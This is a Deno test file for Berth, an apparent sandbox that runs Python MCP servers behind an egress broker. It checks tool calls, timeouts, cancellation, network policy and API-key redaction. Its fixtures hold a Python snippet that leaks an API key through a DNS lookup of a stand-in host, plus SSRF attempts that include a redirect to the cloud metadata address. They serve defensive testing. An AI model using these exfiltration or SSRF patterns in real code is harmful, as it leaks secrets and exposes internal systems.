import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
import type { Transport } from "@modelcontextprotocol/sdk/shared/transport.js";
import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import { systemClock } from "../../../src/execution/clock.ts";
import { createEgressBroker } from "../../../src/egress/broker.ts";
import { interfaceAddresses, resolveName } from "../../../src/egress/machine.ts";
import { parseEgressPolicy } from "../../../src/egress/policy.ts";
import { createExecution } from "../../../src/execution/execution.ts";
import { failureEnvelope } from "../../../src/http/envelopes.ts";
import { openTestDatabase } from "../../helpers/database.ts";
import { openHosts } from "../../helpers/interpreter.ts";
import { recordingLogger } from "../../helpers/log.ts";
import { type Body, eventsOf, INITIALIZE, json, post, remove, rpc, SERVER } from "../harness.ts";

const WEATHER = `
import json
import requests
from mcp.server.fastmcp import FastMCP

mcp = FastMCP("weather")

@mcp.tool()
def add(a: int, b: int) -> int:
    """Adds two numbers"""
    return a + b

@mcp.tool()
def fetch(url: str) -> str:
    """Fetches a page"""
    answer = requests.get(url, timeout=60)
    return str(answer.status_code) + " " + answer.text

@mcp.tool()
def reason(url: str) -> str:
    """Says how a request fails"""
    try:
        requests.get(url, timeout=60)
        return "no error"
    except requests.exceptions.RequestException as error:
        return type(error).__name__ + ": " + str(error)

@mcp.tool()
def spin() -> str:
    """Never ends"""
    print("spinning")
    while True:
        pass

if __name__ == "__main__":
    mcp.run()
`;

const SERVERS: Record<string, string> = {
  weather: WEATHER,
  "with-class": "import json\n\nclass Thing:\n    pass\n",
  raising: "import os\nprint(os.environ['API_KEY'])\n",
  keyed: `
import os
import requests
from mcp.server.fastmcp import FastMCP

KEY = os.environ["API_KEY"]
print("the key is", KEY)
mcp = FastMCP("keyed")

@mcp.tool()
def show() -> str:
    """Shows the key, and tells it to whoever looks names up"""
    try:
        requests.get(f"http://{KEY}.10.0.0.1.nip.test/")
    except requests.RequestException as error:
        return KEY + " " + str(error)

mcp.run()
`,
};

interface Running {
  send: (request: Request) => Promise<Response>;
  lines: Record<string, unknown>[];
  serve: () => Deno.HttpServer<Deno.NetAddr>;
}

async function withPython(
  options: { callTimeoutSeconds?: number; allow?: string[]; ownPort?: number },
  body: (running: Running) => Promise<void>,
): Promise<void> {
  const database = await openTestDatabase();
  await using hosts = await openHosts();
  const { log, lines } = recordingLogger();
  const archives = new Map<string, { bytes: Uint8Array; name: string }>();
  for (const [name, source] of Object.entries(SERVERS)) {
    const bytes = new TextEncoder().encode(source);
    const digest = await crypto.subtle.digest("SHA-256", bytes);
    archives.set(new Uint8Array(digest).toHex(), { bytes, name });
  }
  const execution = createExecution({
    keysPage: (server) => `http://registry.test/servers/${server}/keys`,
    sql: database.sql,
    hosts,
    egress: createEgressBroker({
      policy: parseEgressPolicy(options.allow ?? [], ["*"]),
      own: {
        endpoints: options.ownPort === undefined
          ? []
          : [{ host: "127.0.0.1", port: options.ownPort }],
        interfaces: interfaceAddresses(),
        resolve: resolveName,
      },
      resolve: resolveName,
      now: () => performance.now(),
      log,
    }),
    clock: systemClock,
    log,
    newId: () => crypto.randomUUID(),
    findRunnable(name) {
      const found = [...archives].find(([, archive]) => archive.name === name);
      return Promise.resolve(found ? { ...SERVER, name, archiveSha256: found[0] } : null);
    },
    loadArchive: (sha256) => Promise.resolve(archives.get(sha256)?.bytes ?? null),
    readArchive: (bytes) => Promise.resolve(new Map([["server.py", bytes]])),
    policy: "unless-failed",
    authenticate: () => Promise.reject(new Error("unused")),
    failureOf: failureEnvelope,
    settings: {
      authentication: "optional",
      profile: "restricted",
      toolsPolicy: "scanned",
      idleSeconds: 1800,
      callTimeoutSeconds: options.callTimeoutSeconds ?? 600,
      maxSessions: 10,
      sessionsPerClient: 10,
      callsPerMinute: 600,
      parkAfterSeconds: 0,
      parkedMb: 1,
    },
  });
  const send = (request: Request) =>
    execution.transport.handle(request, { clientAddress: "127.0.0.1", requestId: "r" });
  try {
    await body({
      send,
      lines,
      serve: () => Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, send),
    });
  } finally {
    await execution.close();
    await database.close();
  }
}

async function call(running: Running, name: string, args: unknown, id: unknown = 2): Promise<Body> {
  const response = await running.send(post(rpc("tools/call", { name, arguments: args }, id)));
  return await json(response, 200);
}

Deno.test("a Python server answers the specification's minimal clients", async () => {
  await withPython({}, async (running) => {
    const first = await json(await running.send(post(INITIALIZE)), 200);
    assertEquals(first.result.protocolVersion, "2025-11-25");
    assertEquals(first.result.serverInfo.name, "weather");
    const list = await json(await running.send(post(rpc("tools/list", undefined, 2))), 200);
    assertEquals(list.result.tools.map((tool: Body) => tool.name), [
      "add",
      "fetch",
      "reason",
      "spin",
    ]);
    const sum = await call(running, "add", { a: 2, b: 3 });
    assertEquals(sum.result.content, [{ type: "text", text: "5" }]);
    assertEquals((await running.send(remove("s1"))).status, 204);
    assertEquals((await running.send(post(rpc("tools/list")))).status, 404);
  });
});

Deno.test("a Python server answers a first tools/list without initialize", async () => {
  await withPython({}, async ({ send }) => {
    const list = await json(await send(post(rpc("tools/list"))), 200);
    assertEquals(list.result.tools.length, 4);
  });
});

Deno.test("a Python server answers the official TypeScript SDK's client", async () => {
  await withPython({}, async ({ serve }) => {
    const listener = serve();
    const address = new URL(`http://127.0.0.1:${listener.addr.port}/mcp?name=weather`);
    const transport = new StreamableHTTPClientTransport(address);
    const client = new Client({ name: "test", version: "1.0.0" });
    try {
      await client.connect(transport as Transport);
      const result = await client.callTool({ name: "add", arguments: { a: 20, b: 22 } });
      assertEquals(result.content, [{ type: "text", text: "42" }]);
      await transport.terminateSession();
    } finally {
      await client.close();
      await listener.shutdown();
    }
  });
});

Deno.test("requests goes through the broker, to what the policy allows and nothing else", async () => {
  const site = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen() {} },
    (request) => {
      const { pathname } = new URL(request.url);
      if (pathname === "/away") {
        return Response.redirect("http://169.254.169.254/latest/meta-data", 302);
      }
      if (pathname === "/near") return Response.redirect(new URL("/", request.url), 302);
      if (pathname !== "/gzip") return new Response("sunny");
      const packed = new Response("packed").body!.pipeThrough(new CompressionStream("gzip"));
      return new Response(packed, { headers: { "content-encoding": "gzip" } });
    },
  );
  const own = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen() {} },
    () => new Response("Berth"),
  );
  const { port } = site.addr;
  try {
    await withPython({ allow: ["127.0.0.0/8"], ownPort: own.addr.port }, async (running) => {
      await json(await running.send(post(INITIALIZE)), 200);
      for (const [path, expected] of [["/", "sunny"], ["/near", "sunny"], ["/gzip", "packed"]]) {
        const answer = await call(running, "fetch", { url: `http://127.0.0.1:${port}${path}` });
        assertEquals(answer.result.content[0].text, `200 ${expected}`);
      }
      const cases: [url: string, expected: string][] = [
        ["http://10.0.0.1/", "not on the public internet"],
        [`http://127.0.0.1:${port}/away`, "not on the public internet"],
        [`http://127.0.0.1:${own.addr.port}/`, "belongs to Berth itself"],
        [`http://localhost:${own.addr.port}/`, "belongs to Berth itself"],
        ["http://[::ffff:127.0.0.1]/", "not on the public internet"],
        ["http://127.0.0.1:22/", "Port 22"],
      ];
      for (const [url, expected] of cases) {
        const { result } = await call(running, "reason", { url });
        assertStringIncludes(result.content[0].text, expected, url);
      }
      assert(running.lines.some((line) => line.event === "egress.refused"));
    });
  } finally {
    await site.shutdown();
    await own.shutdown();
  }
});

Deno.test("refused constructs and entrypoints that raise are JSON-RPC errors with 200", async () => {
  await withPython({}, async ({ send }) => {
    for (const request of [rpc("tools/list"), INITIALIZE]) {
      const refused = await json(await send(post(request, { name: "with-class" })), 200);
      assertStringIncludes(refused.error.message, "server.py:3");
      assertEquals(refused.error.data.problems[0].line, 3);
    }
    const raised = await json(await send(post(INITIALIZE, { name: "raising", session: "r" })), 200);
    assertStringIncludes(raised.error.message, "API_KEY");
    assertStringIncludes(raised.error.data.traceback, "server.py");
  });
});

Deno.test("a call over its time is ended with the limit in the error, the session continues", async () => {
  await withPython({ callTimeoutSeconds: 1 }, async (running) => {
    await json(await running.send(post(INITIALIZE)), 200);
    const spun = await call(running, "spin", {});
    assertStringIncludes(spun.error.message, "1 s");
    // The limit holds for this call too, and the machine may be busy.
    let sum = await call(running, "add", { a: 1, b: 1 }, 3);
    for (let id = 4; id < 60 && sum.error !== undefined; id++) {
      sum = await call(running, "add", { a: 1, b: 1 }, id);
    }
    assertEquals(sum.result.content[0].text, "2");
  });
});

Deno.test("notifications/cancelled interrupts Python", async () => {
  await withPython({}, async (running) => {
    await json(await running.send(post(INITIALIZE)), 200);
    const accept = { headers: { accept: "application/json, text/event-stream" } };
    const spin = rpc("tools/call", { name: "spin" }, "spinning");
    const events = eventsOf(await running.send(post(spin, accept)));
    await events.next();
    assertEquals((await events.next())?.message.params.data, "spinning");
    const cancel = { method: "notifications/cancelled", params: { requestId: "spinning" } };
    assertEquals((await running.send(post({ jsonrpc: "2.0", ...cancel }))).status, 202);
    assert("error" in (await events.next())!.message);
    assertEquals(await events.next(), null);
    const sum = await call(running, "add", { a: 1, b: 1 }, 3);
    assertEquals(sum.result.content[0].text, "2");
  });
});

Deno.test("a key that a client passes reaches the code, and nothing else", async () => {
  await withPython({}, async ({ send, lines }) => {
    const target = { name: "keyed", session: "k" };
    const missing = await json(await send(post(INITIALIZE, target)), 200);
    assertEquals(missing.error.data.missing_environment, ["API_KEY"]);
    assertStringIncludes(missing.error.message, 'params._meta["berth/environment"] of initialize');
    const key = "sk-4711-secret";
    const meta = { "berth/environment": { API_KEY: key } };
    const params = { protocolVersion: "2025-11-25", capabilities: {}, _meta: meta };
    const begun = await json(await send(post(rpc("initialize", params), target)), 200);
    assertEquals(begun.result.serverInfo.name, "keyed");
    const call = rpc("tools/call", { name: "show", arguments: {} }, 2);
    const { result } = await json(await send(post(call, target)), 200);
    // It has the key, and its result shows the name.
    assertStringIncludes(result.content[0].text, "[API_KEY] ");
    assert(!JSON.stringify(result).includes(key));
    assert(lines.some(({ text }) => String(text).includes("the key is [API_KEY]")));
    assert(!JSON.stringify(lines).includes(key), JSON.stringify(lines));
    // Another session knows nothing of it.
    const other = await json(await send(post(INITIALIZE, { name: "keyed", session: "o" })), 200);
    assertEquals(other.error.data.missing_environment, ["API_KEY"]);
  });
});
